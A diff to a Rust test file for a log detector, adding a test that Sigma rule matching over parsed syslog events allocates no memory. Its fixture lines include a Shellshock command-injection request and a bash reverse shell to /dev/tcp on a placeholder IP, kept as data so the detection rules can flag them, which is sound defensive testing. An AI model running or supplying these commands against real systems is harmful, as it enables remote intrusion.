@@ -1,5 +1,6 @@
-//! Parsing allocates nothing: a counting global allocator watches this thread while every
-//! format is parsed and all of its fields and structured-data parameters are read.
+//! Parsing, mining known messages and Sigma matching allocate nothing: a counting global
+//! allocator watches this thread while every format is parsed and all of its fields and
+//! structured-data parameters are read, known messages are mined, and events are matched.
 
 use std::{
     alloc::{GlobalAlloc, Layout, System},
@@ -126,4 +127,56 @@ fn mining_known_messages_allocates_nothing() {
         "allocations while mining known messages"
     );
     assert_eq!(ids[0], ids[1]);
+}
+
+#[test]
+fn sigma_matching_allocates_nothing() {
+    use detector::rules::{
+        load::load_dir,
+        sigma::{LogsourceMap, SigmaRule, SigmaScratch, SigmaSet},
+    };
+    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/rules/sigma-linux");
+    let mut rules = load_dir(std::path::Path::new(dir), &LogsourceMap::default()).rules;
+    // Regexes on the body and on a payload field, through their RegexSets.
+    rules.push(
+        SigmaRule::from_yaml(
+            "re.yml",
+            "title: re\nlogsource: {product: linux}\ndetection:\n    a:\n        message|re: 'user (admin|root)'\n    b:\n        uid|re: '^0$'\n    condition: a or b\n",
+            &LogsourceMap::default(),
+        )
+        .unwrap(),
+    );
+    let set = SigmaSet::new(rules);
+    let lines: Vec<String> = MESSAGES
+        .iter()
+        .map(|m| m.to_string())
+        .chain([
+            "<13>Nov 22 10:00:00 h httpd[3]: GET /cgi-bin/x UA: () { :; }; /bin/id".to_string(),
+            "<13>Nov 22 10:00:00 h bash[1]: bash -i >& /dev/tcp/198.51.100.9/4444 0>&1".into(),
+            "<38>Nov 22 10:00:00 h sshd[1]: Invalid user admin from 198.51.100.7".into(),
+        ])
+        .collect();
+    let events: Vec<_> = lines
+        .iter()
+        .map(|l| parse(l.as_bytes(), &ParseOptions::default()))
+        .collect();
+    let mut scratch = SigmaScratch::default();
+    let pass = |scratch: &mut SigmaScratch| {
+        let mut hits = 0;
+        for e in &events {
+            set.for_each_match(e, scratch, |_| hits += 1);
+        }
+        hits
+    };
+    // The first pass sizes the scratch and lets the regexes' lazy DFAs build their states.
+    let warm = pass(&mut scratch);
+    COUNTING.with(|c| c.set(true));
+    let hits = pass(&mut scratch);
+    COUNTING.with(|c| c.set(false));
+    assert_eq!(hits, warm);
+    assert!(
+        hits >= 4,
+        "the shellshock, reverse shell and both regex lines: {hits}"
+    );
+    assert_eq!(ALLOCATIONS.with(Cell::get), 0, "allocations while matching");
 }
